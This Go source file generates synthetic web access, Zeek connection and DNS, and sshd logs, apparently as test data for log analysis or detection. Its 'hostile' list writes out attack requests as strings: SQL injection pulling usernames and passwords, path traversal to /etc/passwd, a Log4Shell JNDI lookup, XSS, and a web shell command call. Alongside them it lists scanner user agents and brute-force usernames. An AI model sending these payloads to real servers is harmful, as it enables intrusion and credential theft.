package main

import (
	"fmt"
	"strconv"
	"time"
)

// attacks is how many records of a thousand are hostile.
const attacks = 10

var (
	agents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
	}
	sections = []string{"news", "courses", "staff", "library", "events", "research", "about", "download", "forum", "shop"}
	hostile  = []string{
		"/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
		"/download?file=../../../../../../etc/passwd",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
		"/wp-login.php",
		"/.env",
		"/.git/config",
		"/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
		"/?x=${jndi:ldap://192.0.2.1/a}",
		"/uploads/shell.php?cmd=id",
		"/item.php?id=1+AND+SLEEP(5)",
	}
	scanners = []string{"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "Mozilla/5.0 zgrab/0.x", "curl/8.4.0"}
	users    = []string{"root", "admin", "test", "oracle", "postgres", "git", "ubuntu", "deploy"}
)

func (m *maker) of(list []string) string { return list[m.r.IntN(len(list))] }

func (m *maker) bad() bool { return m.r.IntN(1000) < attacks }

// add appends parts: strings, ints and runes of the line.
func (m *maker) add(parts ...any) {
	for _, p := range parts {
		switch p := p.(type) {
		case string:
			m.line = append(m.line, p...)
		case int:
			m.line = strconv.AppendInt(m.line, int64(p), 10)
		default:
			m.line = fmt.Append(m.line, p)
		}
	}
}

// inside is an address of the organization.
func (m *maker) inside() string {
	return "198.18." + strconv.Itoa(m.org) + "." + strconv.Itoa(10+m.r.IntN(200))
}

// web is a line of the combined log format.
func (m *maker) web(at time.Time) {
	m.add(m.pick(), ` - - [`)
	m.line = at.AppendFormat(m.line, "02/Jan/2006:15:04:05 -0700")
	if m.bad() {
		m.add(`] "GET `, m.of(hostile), ` HTTP/1.1" `, []int{200, 404, 404, 403, 500}[m.r.IntN(5)], " ", 100+m.r.IntN(5000), ` "-" "`, m.of(scanners), `"`)
		return
	}
	section := m.of(sections)
	m.add(`] "GET /`, section, "/", 1+m.r.IntN(400))
	switch m.r.IntN(6) {
	case 0:
		m.add("?page=", m.r.IntN(40), "&sort=date&lang=en")
	case 1:
		m.add("/image-", m.r.IntN(900), ".jpg")
	case 2:
		m.add("?q=opening+hours+", section, "&start=", m.r.IntN(1<<30))
	}
	status := 200
	switch m.r.IntN(20) {
	case 0:
		status = 404
	case 1, 2:
		status = 304
	case 3:
		status = 301
	}
	m.add(` HTTP/1.1" `, status, " ", 200+m.r.IntN(60000), ` "https://www.org-`, m.org+1, `.example/`, section, `/" "`, m.of(agents), `"`)
}

const connHeader = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#open\t2024-01-08-00-00-00\n" +
	"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n" +
	"#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]\n"

func (m *maker) stamp(at time.Time) {
	m.line = strconv.AppendInt(m.line, at.Unix(), 10)
	m.line = append(m.line, '.')
	for d, us := 100_000, at.Nanosecond()/1000; d > 0; d /= 10 {
		m.line = append(m.line, byte('0'+us/d%10))
	}
}

func (m *maker) uid() {
	m.line = append(m.line, 'C')
	for x := m.r.Uint64(); x > 1<<8; x /= 62 {
		m.line = append(m.line, "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[x%62])
	}
}

// conn is a line of Zeek's conn.log.
func (m *maker) conn(at time.Time) {
	m.stamp(at)
	m.add("\t")
	m.uid()
	m.ports += 7
	from, to := m.inside(), m.pick()
	if m.r.IntN(2) == 0 {
		from, to = to, from
	}
	if m.bad() { // a probe: nobody answers
		m.add("\t", m.pick(), "\t", 1024+int(m.ports)%60000, "\t", m.inside(), "\t", 1+m.r.IntN(1024), "\ttcp\t-\t-\t-\t-\tS0\t-\t-\t0\tS\t1\t60\t0\t0\t-")
		return
	}
	port, service, proto := 443, "ssl", "tcp"
	switch m.r.IntN(8) {
	case 0:
		port, service = 80, "http"
	case 1, 2:
		port, service, proto = 53, "dns", "udp"
	case 3:
		port, service = 22, "ssh"
	}
	sent, got := m.r.IntN(4000), m.r.IntN(80000)
	m.add("\t", from, "\t", 1024+int(m.ports)%60000, "\t", to, "\t", port, "\t", proto, "\t", service, "\t", m.r.IntN(30), ".", 100000+m.r.IntN(899999),
		"\t", sent, "\t", got, "\tSF\t-\t-\t0\tShADadFf\t", 3+sent/1400, "\t", sent+160, "\t", 3+got/1400, "\t", got+180, "\t-")
}

// dns is a record of Zeek's dns log as JSON.
func (m *maker) dns(at time.Time) {
	m.add(`{"ts":`)
	m.stamp(at)
	m.add(`,"uid":"`)
	m.uid()
	// Half of all names are among a few hundred, like everywhere.
	host := m.r.IntN(300)
	if m.r.IntN(2) == 0 {
		host = m.r.IntN(200_000)
	}
	m.ports += 11
	m.add(`","id.orig_h":"`, m.inside(), `","id.orig_p":`, 1024+int(m.ports)%60000, `,"id.resp_h":"198.18.`, m.org, `.2","id.resp_p":53,"proto":"udp","trans_id":`, m.r.IntN(65536),
		`,"rtt":0.0`, 10000+m.r.IntN(80000), `,"query":"www.site-`, host, `.example","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["`,
		name(host), `"],"TTLs":[`, 60+m.r.IntN(3600), `.0],"rejected":false}`)
}

// ssh is a line of sshd in a syslog file.
func (m *maker) ssh(at time.Time) {
	m.line = at.AppendFormat(m.line, "2006-01-02T15:04:05.000000-07:00")
	m.add(" host-", m.r.IntN(5)+1, " sshd[", 1000+m.r.IntN(30000), "]: ")
	m.ports += 13
	port := 1024 + int(m.ports)%60000
	switch {
	case m.bad():
		m.add("Failed password for invalid user ", m.of(users), " from ", m.pick(), " port ", port, " ssh2")
	case m.r.IntN(2) == 0:
		m.add("Accepted publickey for user", m.r.IntN(80), " from 198.18.", m.org, ".", 10+m.r.IntN(200), " port ", port, " ssh2: ED25519 SHA256:uNiVztksCsDhcc0u9e8BrKtPRW1dGnIjlYUx4PNRl1g")
	default:
		m.add("Disconnected from user user", m.r.IntN(80), " 198.18.", m.org, ".", 10+m.r.IntN(200), " port ", port)
	}
}
